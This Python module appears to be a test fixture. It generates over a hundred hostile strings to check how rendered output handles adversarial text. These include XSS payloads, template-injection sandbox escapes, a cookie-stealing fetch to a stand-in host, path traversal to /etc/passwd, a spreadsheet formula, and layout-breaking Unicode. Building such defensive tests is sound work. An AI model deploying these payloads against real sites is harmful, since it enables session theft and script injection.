"""A hundred strings that try to run, to fetch, to break out of where they stand, or to break the layout."""

from __future__ import annotations

_PAYLOADS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "--></script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><img src=x onerror="{}">',
    "'><svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<a href='javascript:{}'>x</a>",
    "javascript:{}",
    "<iframe srcdoc='<script>{}</script>'>",
    "<math><mi xlink:href='javascript:{}'>",
    "<details open ontoggle={}>",
    "<style>*{{display:none}}</style><script>{}</script>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}{}{{% endfor %}}",
    "<b>%{{y}}</b><extra>{}</extra>",
    "<a href='https://example.com/{}'>plotly link</a>",
)
_ACTIONS = ("alert(1)", "confirm(document.domain)", "fetch('https://example.com/'+document.cookie)")
_FETCHES = (
    "<img src=https://example.com/x.png>",
    "<link rel=stylesheet href=https://example.com/x.css>",
    "<script src=https://example.com/x.js></script>",
    "<object data=https://example.com/x.swf></object>",
    "<meta http-equiv=refresh content='0;url=https://example.com/'>",
    "<base href=https://example.com/>",
    "<form action=https://example.com/><button autofocus>x</button></form>",
    "<style>@import 'https://example.com/x.css';</style>",
    "<div style='background:url(https://example.com/x.png)'>x</div>",
    "<video src=https://example.com/x.mp4 autoplay></video>",
)
_SHAPES = (
    "x" * 3000,
    "W" * 400 + " " + "i" * 400,
    "\n" * 60 + "end",
    "\t" * 200 + "end",
    "\u202e\u2066right to left\u2069\u202c",
    "\x1b[31m\x1b]0;title\x07\x9b2J",
    "Z\u0351\u036b\u0343" * 60,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 40,
    "\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0633\u0644\u0627\u0645",
    "\u200b\u200c\u200d\ufeff",
    "__proto__",
    "constructor",
    "toString",
    "NaN",
    "-Infinity",
    '=HYPERLINK("https://example.com")',
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\",
    "]]>",
    "<!--",
    "-->",
    "\u2028\u2029",
    "%00%0a<script>alert(1)</script>",
    "#run=0&step=9<script>alert(1)</script>",
)

HOSTILE = [payload.format(action) for action in _ACTIONS for payload in _PAYLOADS] + [*_FETCHES, *_SHAPES]
"""At least a hundred."""
